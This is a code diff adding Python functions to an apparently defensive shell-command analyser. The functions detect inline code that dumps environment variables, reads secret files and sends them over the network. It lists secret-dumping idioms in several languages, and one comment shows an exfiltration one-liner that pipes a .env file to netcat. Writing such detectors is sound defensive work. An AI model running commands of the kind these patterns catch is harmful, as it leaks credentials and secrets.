+_ENV_DUMPS = {"python": ("os.environ)", "os.environ.items", "os.environ.copy", "os.environ.keys",
+                         "os.environ.values", "dict(os.environ", "environ)", "environ.items"),
+              "other": ("process.env)", "process.env,", "process.env;", "process.env ",
+                        "ENV.to_h", "ENV.each", "ENV.inspect", "ENV.to_a", "%ENV", "keys %ENV",
+                        "Deno.env.toObject", "os.Environ()", "getenv()", "ENV)", "$_ENV",
+                        "getenv();")}
+_ENV_ACCESS = ("environ", "getenv", "process.env", "ENV[", "ENV.fetch", "$ENV{", "ENVIRON[",
+               "Deno.env.get", "os.Getenv", "System.getenv", "Env.get")
+_PRINTS = ("print", "console.log", "puts", "echo", "write", "say", "dump", "log(", "p ", "pp ")
+
+
+def inline(an: Walk, language: str, code: str, seg: str) -> None:
+    """Inline code (``python -c``, ``node -e``, an awk program): the environment it dumps, the
+    secret variables and files it reads, and whether its requests carry them."""
+    labels: list[str] = []
+    dumps = _ENV_DUMPS["python" if language == "python" else "other"]
+    if language == "awk":
+        dumps = ("in ENVIRON",)
+    dump = any(d in code for d in dumps)
+    if dump:
+        labels.append("the environment")
+    if any(a in code for a in _ENV_ACCESS):
+        for name in _identifiers(code):
+            if secret_variable(an, name) and f"${name}" not in labels:
+                labels.append(f"${name}")
+    for text in _strings(code):
+        label = secret_file(an, text)
+        if label is not None and label not in labels:
+            labels.append(label)
+    if not labels:
+        return
+    state = flow(an)                               # perl -e 'open F, ".env" ...' | nc host
+    state.segs[seg] = list(dict.fromkeys([*state.segs.get(seg, ()), *labels]))
+    network = [an.seen[(p, seg)] for p in NETWORK if (p, seg) in an.seen]
+    if network:
+        from governance.shell.endpoint import host_of
+
+        hosts = [h for h in (host_of(t) for t in _strings(code) if "://" in t) if h] or ["?"]
+        for act in network:
+            act.hosts = list(dict.fromkeys([*(act.hosts or ()), *hosts]))
+        how = {label: ("environment variable" if label[:1] == "$" else
+                       "the environment" if label == "the environment" else "secret file")
+               for label in labels}
+        _exfiltration(an, language, seg, [(lb, how[lb], "in its requests") for lb in labels],
+                      hosts)
+        return
+    if dump or any(p in code for p in _PRINTS) or any(lb[:1] != "$" for lb in labels):
+        what = ", ".join(labels)
+        _read(an, seg, f"the {language} code reads {what}", labels)
+
+
+def _identifiers(code: str) -> list[str]:
+    out: list[str] = []
+    current: list[str] = []
+    for c in code + " ":
+        if c.isalnum() or c == "_":
+            current.append(c)
+            continue
+        if len(current) > 2 and any(ch.isupper() for ch in current):
+            word_ = "".join(current)
+            if word_ not in out:
+                out.append(word_)
+        current = []
+    return out
+
+
+def _strings(code: str) -> list[str]:
+    """The quoted literals in code (either quote), as written."""
+    out: list[str] = []
+    k = 0
+    while k < len(code):
+        c = code[k]
+        if c in "'\"":
+            end = code.find(c, k + 1)
+            if end < 0:
+                break
+            text = code[k + 1:end]
+            if text and " " not in text and len(text) < 300:
+                out.append(text)
+            k = end + 1
+            continue
+        k += 1
+    return out
